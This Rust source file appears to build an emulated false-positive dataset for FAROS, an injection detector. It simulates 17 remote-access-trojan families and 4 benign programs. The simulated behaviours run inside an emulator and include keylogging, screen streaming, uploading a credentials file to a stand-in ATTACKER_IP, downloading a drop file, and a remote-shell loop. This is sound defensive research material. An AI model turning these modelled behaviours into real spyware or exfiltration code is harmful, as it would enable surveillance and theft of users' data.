//! The non-injecting malware families and benign software of Table IV —
//! the false-positive dataset (90 malware samples + 14 benign runs).
//!
//! Each family row of the paper's Table IV is a behaviour profile
//! (idle / run / audio record / file transfer / keylogger / remote desktop /
//! upload / download / remote shell). Families expand into several
//! hash-distinct sample variants (different C2 ports, drop file names),
//! reproducing the paper's 90-sample count; none of them injects code, so
//! FAROS must flag none (the paper measured a 0% FP rate on this dataset).

use crate::builder::{connect, exit_process, finish_image, print_label, sleep, sys, SCRATCH};
use crate::endpoints::{BlobServer, EndpointFactory, ATTACKER_IP};
use crate::scenario::{Behavior, Category, Sample, SampleScenario};
use faros_emu::asm::Asm;
use faros_emu::isa::{Mem as M, Reg};
use faros_kernel::machine::IMAGE_BASE;
use faros_kernel::nt::Sysno;

/// A Table IV row: family name and behaviour profile.
#[derive(Debug, Clone)]
pub struct Family {
    /// Family/program name as listed in the paper.
    pub name: &'static str,
    /// Behaviour checkmarks.
    pub behaviors: Vec<Behavior>,
    /// Ground-truth category (malware vs. benign row).
    pub benign: bool,
}

/// The 17 non-injecting malware rows of Table IV.
pub fn malware_rows() -> Vec<Family> {
    use Behavior::*;
    let rows: Vec<(&'static str, Vec<Behavior>)> = vec![
        ("Pandora v2.2", vec![Idle, Run, AudioRecord, FileTransfer, KeyLogger, RemoteDesktop, Upload]),
        ("Darkcomet v5.3", vec![Idle, Run, AudioRecord, KeyLogger, RemoteDesktop, Upload]),
        ("Njrat v0.7", vec![Idle, Run, FileTransfer, KeyLogger, Upload, Download]),
        ("Spygate v3.2", vec![Idle, Run, AudioRecord, KeyLogger, RemoteDesktop, Upload, Download]),
        ("Blue Banana", vec![Idle, Run, Download, RemoteShell]),
        ("Blue Banana v2.0", vec![Idle, Run, Download, RemoteShell]),
        ("Blue Banana v3.0", vec![Idle, Run, Download, RemoteShell]),
        ("Bozok", vec![Idle, Run, FileTransfer, KeyLogger, Upload, Download]),
        ("Bozok v2.0", vec![Idle, Run, FileTransfer, KeyLogger, Upload, Download]),
        ("Bozok v3.0", vec![Idle, Run, FileTransfer, KeyLogger, Upload, Download]),
        ("DarkComet v5.1.2", vec![Idle, Run, AudioRecord, KeyLogger, RemoteDesktop, Upload]),
        ("DarkComet legacy", vec![Idle, Run, AudioRecord, KeyLogger, RemoteDesktop, Upload]),
        ("Extremerat v2.7.1", vec![Idle, Run, AudioRecord, FileTransfer, KeyLogger, RemoteDesktop, Upload]),
        ("Jspy", vec![Idle, Run, KeyLogger, Download]),
        ("Jspy v2.0", vec![Idle, Run, KeyLogger, Download]),
        ("Jspy v3.0", vec![Idle, Run, KeyLogger, Download]),
        ("Quasar v1.0", vec![Idle, Run, RemoteShell]),
    ];
    rows.into_iter()
        .map(|(name, behaviors)| Family { name, behaviors, benign: false })
        .collect()
}

/// The 4 benign rows of Table IV.
pub fn benign_rows() -> Vec<Family> {
    use Behavior::*;
    vec![
        Family {
            name: "Remote Utility",
            behaviors: vec![Idle, Run, FileTransfer, RemoteDesktop, Upload],
            benign: true,
        },
        Family {
            name: "TeamViewer",
            behaviors: vec![Idle, Run, RemoteDesktop],
            benign: true,
        },
        Family {
            name: "Win7-snipping tool",
            behaviors: vec![Idle, Run, FileTransfer],
            benign: true,
        },
        Family {
            name: "Skype",
            behaviors: vec![Idle, Run, AudioRecord, Upload, Download],
            benign: true,
        },
    ]
}

fn sanitize(name: &str) -> String {
    name.chars()
        .map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_lowercase() } else { '_' })
        .collect()
}

/// Emits the guest code for one behaviour. `sock_slot` is valid when the
/// profile includes any network behaviour; `seed` uniquifies labels;
/// `rounds` scales the activity volume (Table V uses large values).
fn emit_behavior(asm: &mut Asm, behavior: Behavior, seed: usize, rounds: u32) {
    let tag = format!("b{seed}");
    match behavior {
        Behavior::Idle => {
            for _ in 0..rounds.min(4) {
                sleep(asm, 150);
            }
        }
        Behavior::Run => {
            // Plain computation: a multiply-accumulate loop.
            asm.mov_ri(Reg::Eax, 1);
            asm.mov_ri(Reg::Ecx, 40 * rounds);
            asm.label(&format!("run_{tag}"));
            asm.mul_ri(Reg::Eax, 33);
            asm.add_ri(Reg::Eax, 7);
            asm.sub_ri(Reg::Ecx, 1);
            asm.cmp_ri(Reg::Ecx, 0);
            asm.jnz(&format!("run_{tag}"));
        }
        Behavior::AudioRecord => {
            // Drain the audio device into a recording file.
            asm.mov_label(Reg::Ebx, "p_audio");
            sys(asm, Sysno::NtOpenFile, &[(Reg::Ecx, 10), (Reg::Edx, SCRATCH + 0x10)]);
            asm.mov_label(Reg::Ebx, "p_rec");
            sys(
                asm,
                Sysno::NtCreateFile,
                &[(Reg::Ecx, 10), (Reg::Edx, 0), (Reg::Esi, SCRATCH + 0x14)],
            );
            asm.mov_ri(Reg::Edi, rounds);
            asm.label(&format!("arec_{tag}"));
            asm.ld4(Reg::Ebx, M::abs(SCRATCH + 0x10));
            sys(
                asm,
                Sysno::NtReadFile,
                &[(Reg::Ecx, SCRATCH + 0x100), (Reg::Edx, 32), (Reg::Esi, SCRATCH + 0x18)],
            );
            asm.ld4(Reg::Ebx, M::abs(SCRATCH + 0x14));
            asm.ld4(Reg::Edx, M::abs(SCRATCH + 0x18));
            sys(
                asm,
                Sysno::NtWriteFile,
                &[(Reg::Ecx, SCRATCH + 0x100), (Reg::Esi, 0)],
            );
            asm.sub_ri(Reg::Edi, 1);
            asm.cmp_ri(Reg::Edi, 0);
            asm.jnz(&format!("arec_{tag}"));
        }
        Behavior::FileTransfer => {
            asm.mov_label(Reg::Ebx, "p_doc");
            sys(asm, Sysno::NtOpenFile, &[(Reg::Ecx, 16), (Reg::Edx, SCRATCH + 0x20)]);
            asm.mov_ri(Reg::Edi, rounds);
            asm.label(&format!("ft_{tag}"));
            asm.ld4(Reg::Ebx, M::abs(SCRATCH + 0x20));
            sys(
                asm,
                Sysno::NtReadFile,
                &[(Reg::Ecx, SCRATCH + 0x140), (Reg::Edx, 32), (Reg::Esi, SCRATCH + 0x24)],
            );
            asm.ld4(Reg::Ebx, M::abs(SCRATCH));
            asm.ld4(Reg::Edx, M::abs(SCRATCH + 0x24));
            sys(
                asm,
                Sysno::NtSocketSend,
                &[(Reg::Ecx, SCRATCH + 0x140), (Reg::Esi, 0)],
            );
            asm.sub_ri(Reg::Edi, 1);
            asm.cmp_ri(Reg::Edi, 0);
            asm.jnz(&format!("ft_{tag}"));
        }
        Behavior::KeyLogger => {
            asm.mov_label(Reg::Ebx, "p_kbd");
            sys(asm, Sysno::NtOpenFile, &[(Reg::Ecx, 13), (Reg::Edx, SCRATCH + 0x28)]);
            asm.mov_label(Reg::Ebx, "p_klog");
            sys(
                asm,
                Sysno::NtCreateFile,
                &[(Reg::Ecx, 11), (Reg::Edx, 0), (Reg::Esi, SCRATCH + 0x2c)],
            );
            asm.mov_ri(Reg::Edi, rounds);
            asm.label(&format!("kl_{tag}"));
            asm.ld4(Reg::Ebx, M::abs(SCRATCH + 0x28));
            sys(
                asm,
                Sysno::NtReadFile,
                &[(Reg::Ecx, SCRATCH + 0x180), (Reg::Edx, 16), (Reg::Esi, SCRATCH + 0x30)],
            );
            asm.ld4(Reg::Ebx, M::abs(SCRATCH + 0x2c));
            asm.ld4(Reg::Edx, M::abs(SCRATCH + 0x30));
            sys(
                asm,
                Sysno::NtWriteFile,
                &[(Reg::Ecx, SCRATCH + 0x180), (Reg::Esi, 0)],
            );
            asm.sub_ri(Reg::Edi, 1);
            asm.cmp_ri(Reg::Edi, 0);
            asm.jnz(&format!("kl_{tag}"));
        }
        Behavior::RemoteDesktop => {
            asm.mov_label(Reg::Ebx, "p_screen");
            sys(asm, Sysno::NtOpenFile, &[(Reg::Ecx, 11), (Reg::Edx, SCRATCH + 0x34)]);
            asm.mov_ri(Reg::Edi, rounds);
            asm.label(&format!("rd_{tag}"));
            // Grab a frame, stream it, poll for an input command.
            asm.ld4(Reg::Ebx, M::abs(SCRATCH + 0x34));
            sys(
                asm,
                Sysno::NtReadFile,
                &[(Reg::Ecx, SCRATCH + 0x1c0), (Reg::Edx, 48), (Reg::Esi, SCRATCH + 0x38)],
            );
            asm.ld4(Reg::Ebx, M::abs(SCRATCH));
            asm.ld4(Reg::Edx, M::abs(SCRATCH + 0x38));
            sys(
                asm,
                Sysno::NtSocketSend,
                &[(Reg::Ecx, SCRATCH + 0x1c0), (Reg::Esi, 0)],
            );
            asm.ld4(Reg::Ebx, M::abs(SCRATCH));
            sys(
                asm,
                Sysno::NtSocketRecv,
                &[(Reg::Ecx, SCRATCH + 0x200), (Reg::Edx, 16), (Reg::Esi, SCRATCH + 0x3c)],
            );
            asm.sub_ri(Reg::Edi, 1);
            asm.cmp_ri(Reg::Edi, 0);
            asm.jnz(&format!("rd_{tag}"));
        }
        Behavior::Upload => {
            asm.mov_label(Reg::Ebx, "p_secret");
            sys(asm, Sysno::NtOpenFile, &[(Reg::Ecx, 17), (Reg::Edx, SCRATCH + 0x44)]);
            asm.mov_ri(Reg::Edi, rounds);
            asm.label(&format!("up_{tag}"));
            asm.ld4(Reg::Ebx, M::abs(SCRATCH + 0x44));
            sys(
                asm,
                Sysno::NtReadFile,
                &[(Reg::Ecx, SCRATCH + 0x240), (Reg::Edx, 32), (Reg::Esi, SCRATCH + 0x48)],
            );
            asm.ld4(Reg::Ebx, M::abs(SCRATCH));
            asm.ld4(Reg::Edx, M::abs(SCRATCH + 0x48));
            sys(
                asm,
                Sysno::NtSocketSend,
                &[(Reg::Ecx, SCRATCH + 0x240), (Reg::Esi, 0)],
            );
            asm.sub_ri(Reg::Edi, 1);
            asm.cmp_ri(Reg::Edi, 0);
            asm.jnz(&format!("up_{tag}"));
        }
        Behavior::Download => {
            asm.mov_label(Reg::Ebx, "p_drop");
            sys(
                asm,
                Sysno::NtCreateFile,
                &[(Reg::Ecx, 11), (Reg::Edx, 0), (Reg::Esi, SCRATCH + 0x4c)],
            );
            asm.mov_ri(Reg::Edi, rounds);
            asm.label(&format!("dl_{tag}"));
            asm.ld4(Reg::Ebx, M::abs(SCRATCH));
            asm.mov_label(Reg::Ecx, "p_pull");
            sys(asm, Sysno::NtSocketSend, &[(Reg::Edx, 4), (Reg::Esi, 0)]);
            asm.ld4(Reg::Ebx, M::abs(SCRATCH));
            sys(
                asm,
                Sysno::NtSocketRecv,
                &[(Reg::Ecx, SCRATCH + 0x280), (Reg::Edx, 64), (Reg::Esi, SCRATCH + 0x50)],
            );
            asm.ld4(Reg::Ebx, M::abs(SCRATCH + 0x4c));
            asm.ld4(Reg::Edx, M::abs(SCRATCH + 0x50));
            sys(
                asm,
                Sysno::NtWriteFile,
                &[(Reg::Ecx, SCRATCH + 0x280), (Reg::Esi, 0)],
            );
            asm.sub_ri(Reg::Edi, 1);
            asm.cmp_ri(Reg::Edi, 0);
            asm.jnz(&format!("dl_{tag}"));
        }
        Behavior::RemoteShell => {
            asm.mov_ri(Reg::Edi, rounds);
            asm.label(&format!("sh_{tag}"));
            asm.ld4(Reg::Ebx, M::abs(SCRATCH));
            asm.mov_label(Reg::Ecx, "p_shreq");
            sys(asm, Sysno::NtSocketSend, &[(Reg::Edx, 5), (Reg::Esi, 0)]);
            asm.ld4(Reg::Ebx, M::abs(SCRATCH));
            sys(
                asm,
                Sysno::NtSocketRecv,
                &[(Reg::Ecx, SCRATCH + 0x2c0), (Reg::Edx, 16), (Reg::Esi, SCRATCH + 0x54)],
            );
            // "Execute" the command (interpret it, report output).
            asm.ld4(Reg::Ebx, M::abs(SCRATCH));
            asm.mov_label(Reg::Ecx, "p_shout");
            sys(asm, Sysno::NtSocketSend, &[(Reg::Edx, 9), (Reg::Esi, 0)]);
            asm.sub_ri(Reg::Edi, 1);
            asm.cmp_ri(Reg::Edi, 0);
            asm.jnz(&format!("sh_{tag}"));
        }
    }
}

/// Builds a runnable [`Sample`] for one family variant.
///
/// `variant` selects the C2 port; `rounds` scales the per-behaviour volume
/// (1–2 for the FP dataset, large values for the Table V workloads).
pub fn build_family_sample(family: &Family, variant: u32, rounds: u32) -> Sample {
    let exe = sanitize(family.name);
    let name = format!("{exe}_v{variant}");
    let exe_path = format!("C:/{exe}.exe");
    let needs_net = family.behaviors.iter().any(|b| b.needs_network());
    let port = 8000 + (variant % 64) as u16;

    let mut asm = Asm::new(IMAGE_BASE);
    if needs_net {
        connect(&mut asm, ATTACKER_IP, port, 0);
    }
    for (i, b) in family.behaviors.iter().enumerate() {
        emit_behavior(&mut asm, *b, i, rounds);
    }
    print_label(&mut asm, "p_done", 4);
    exit_process(&mut asm, 0);
    // Shared string pool (behaviours reference these labels).
    asm.label("p_done");
    asm.raw(b"done");
    asm.label("p_audio");
    asm.raw(b"DEV:/audio");
    asm.label("p_rec");
    asm.raw(b"C:/rec.wav");
    asm.label("p_doc");
    asm.raw(b"C:/docs/plan.txt");
    asm.label("p_kbd");
    asm.raw(b"DEV:/keyboard");
    asm.label("p_klog");
    asm.raw(b"C:/keys.log");
    asm.label("p_screen");
    asm.raw(b"DEV:/screen");
    asm.label("p_secret");
    asm.raw(b"C:/docs/creds.txt");
    asm.label("p_drop");
    asm.raw(b"C:/drop.bin");
    asm.label("p_pull");
    asm.raw(b"PULL");
    asm.label("p_shreq");
    asm.raw(b"SHELL");
    asm.label("p_shout");
    asm.raw(b"exit-code");

    let mut scenario = SampleScenario::new(&name)
        .program(&exe_path, finish_image(asm))
        .seed_file("DEV:/audio", vec![0x11; 4096])
        .seed_file("DEV:/keyboard", b"password hunter2 admin root!".to_vec())
        .seed_file("DEV:/screen", vec![0x7f; 8192])
        .seed_file("C:/docs/plan.txt", b"quarterly plan: ship it".to_vec())
        .seed_file("C:/docs/creds.txt", b"user=alice pass=hunter2".to_vec())
        .autostart(&exe_path);
    if needs_net {
        scenario = scenario.endpoint(EndpointFactory::new(ATTACKER_IP, port, move || {
            BlobServer::new(vec![0xAB; 64])
        }));
    }
    Sample {
        scenario,
        category: if family.benign {
            Category::Benign
        } else {
            Category::NonInjectingMalware
        },
        behaviors: family.behaviors.clone(),
    }
}

/// The full Table IV false-positive dataset: 90 non-injecting malware
/// samples + 14 benign runs = 104 samples.
pub fn fp_dataset() -> Vec<Sample> {
    let mut out = Vec::with_capacity(104);
    // 90 malware samples: the first 5 families contribute 6 variants each,
    // the remaining 12 contribute 5 (5*6 + 12*5 = 90).
    for (i, family) in malware_rows().iter().enumerate() {
        let variants = if i < 5 { 6 } else { 5 };
        for v in 0..variants {
            out.push(build_family_sample(family, (i * 8 + v) as u32, 1));
        }
    }
    // 14 benign runs: 4 + 4 + 3 + 3.
    let benign = benign_rows();
    for (i, (family, variants)) in benign.iter().zip([4usize, 4, 3, 3]).enumerate() {
        for v in 0..variants {
            out.push(build_family_sample(family, (200 + i * 8 + v) as u32, 1));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use faros_kernel::event::NullObserver;
    use faros_kernel::machine::RunExit;
    use faros_kernel::net::NetworkFabric;
    use faros_replay::Scenario as _;

    #[test]
    fn dataset_counts_match_the_paper() {
        let ds = fp_dataset();
        assert_eq!(ds.len(), 104);
        let malware = ds
            .iter()
            .filter(|s| s.category == Category::NonInjectingMalware)
            .count();
        let benign = ds.iter().filter(|s| s.category == Category::Benign).count();
        assert_eq!(malware, 90);
        assert_eq!(benign, 14);
        assert!(ds.iter().all(|s| !s.category.should_flag()));
    }

    #[test]
    fn table_rows_match_the_paper() {
        assert_eq!(malware_rows().len(), 17);
        assert_eq!(benign_rows().len(), 4);
        for row in malware_rows() {
            assert!(row.behaviors.contains(&Behavior::Idle));
            assert!(row.behaviors.contains(&Behavior::Run));
        }
    }

    #[test]
    fn every_family_variant_terminates() {
        // One representative variant per family (running all 104 here would
        // be slow; the bench harness runs the full set).
        for family in malware_rows().iter().chain(benign_rows().iter()) {
            let sample = build_family_sample(family, 1, 1);
            let fabric = NetworkFabric::new_live(sample.scenario.guest_ip());
            let mut machine = sample.scenario.build(fabric, &mut NullObserver).unwrap();
            let exit = machine.run(20_000_000, &mut NullObserver);
            assert_eq!(exit, RunExit::AllExited, "{} must terminate", sample.name());
            let done = machine.console().iter().any(|(_, s)| s == "done");
            assert!(done, "{} must reach its end marker", sample.name());
        }
    }

    #[test]
    fn behaviours_leave_their_artifacts() {
        // A keylogger family drops its log; a downloader drops its payload.
        let family = &malware_rows()[2]; // Njrat v0.7: KeyLogger + Download
        let sample = build_family_sample(family, 3, 1);
        let fabric = NetworkFabric::new_live(sample.scenario.guest_ip());
        let mut machine = sample.scenario.build(fabric, &mut NullObserver).unwrap();
        assert_eq!(machine.run(20_000_000, &mut NullObserver), RunExit::AllExited);
        assert!(machine.fs.exists("C:/keys.log"));
        assert!(machine.fs.exists("C:/drop.bin"));
        let drop = machine.fs.read("C:/drop.bin", 0, 128).unwrap();
        assert_eq!(&drop[..8], &[0xAB; 8], "downloaded blob reaches disk");
    }

    #[test]
    fn sanitize_produces_identifier_names() {
        assert_eq!(sanitize("Pandora v2.2"), "pandora_v2_2");
        assert_eq!(sanitize("Win7-snipping tool"), "win7_snipping_tool");
    }
}
